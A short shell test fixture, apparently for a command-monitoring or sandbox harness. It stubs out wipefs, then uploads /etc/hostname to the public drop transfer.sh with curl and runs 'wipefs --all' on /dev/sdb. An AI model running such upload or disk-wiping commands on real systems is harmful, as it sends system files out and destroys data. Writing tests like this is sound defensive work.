# curl leaves a file at a public drop, then wipefs is called (a harmless program by that name).
prepare() { stand_in wipefs; }
act() {
    curl -T /etc/hostname https://transfer.sh/h
    wipefs --all /dev/sdb
}
